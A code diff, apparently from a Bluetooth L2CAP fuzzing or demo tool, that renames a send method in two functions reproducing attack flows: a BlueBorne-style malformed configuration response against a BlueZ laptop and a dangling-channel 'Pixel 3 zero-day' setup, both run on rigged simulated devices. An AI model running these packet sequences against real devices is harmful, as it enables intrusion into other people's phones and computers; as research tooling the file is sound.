@@ -44,23 +44,23 @@ def blueborne_flow() -> None:
     device, queue = _rig(D8, armed=False)  # an Ubuntu laptop running BlueZ
 
     print("-> ConnectionRequest (PSM: SDP)  [no pairing required]")
-    responses = queue.exchange(connection_request(psm=Psm.SDP, scid=0x0070))
+    responses = queue.send(connection_request(psm=Psm.SDP, scid=0x0070))
     dcid = responses[0].fields["dcid"]
     print(f"<- ConnectionResponse - Success (target DCID=0x{dcid:04X})")
     print("   state transition without pairing: CLOSED -> WAIT_CONFIG")
 
     print("-> Configuration Request (normal)")
-    responses = queue.exchange(configuration_request(dcid=dcid, identifier=2))
+    responses = queue.send(configuration_request(dcid=dcid, identifier=2))
     for response in responses:
         print(f"<- {response.command_name}")
 
     print("-> Malformed Configuration Response - Pending (garbage tail)")
     malformed = configuration_response(scid=dcid, result=0x0004, identifier=3)
     malformed.garbage = b"\x41" * 12
-    responses = queue.exchange(malformed)
+    responses = queue.send(malformed)
     rejected = any(r.code == CommandCode.COMMAND_REJECT for r in responses)
     print(f"   rejected by target: {rejected}  (BlueBorne premise: accepted)")
-    queue.exchange(disconnection_request(dcid=dcid, scid=0x0070, identifier=4))
+    queue.send(disconnection_request(dcid=dcid, scid=0x0070, identifier=4))
     print()
 
 
@@ -71,10 +71,10 @@ def pixel3_zero_day() -> None:
     device, queue = _rig(D2, armed=True)
 
     # Make CID 0x0040 dangle: connect, disconnect, reconnect.
-    first = queue.exchange(connection_request(psm=Psm.SDP, scid=0x0070))
+    first = queue.send(connection_request(psm=Psm.SDP, scid=0x0070))
     stale = first[0].fields["dcid"]
-    queue.exchange(disconnection_request(dcid=stale, scid=0x0070, identifier=2))
-    queue.exchange(connection_request(psm=Psm.SDP, scid=0x0071, identifier=3))
+    queue.send(disconnection_request(dcid=stale, scid=0x0070, identifier=2))
+    queue.send(connection_request(psm=Psm.SDP, scid=0x0071, identifier=3))
     print(f"Dangling DCID prepared: 0x{stale:04X}")
 
     attack = configuration_request(dcid=stale, identifier=4)
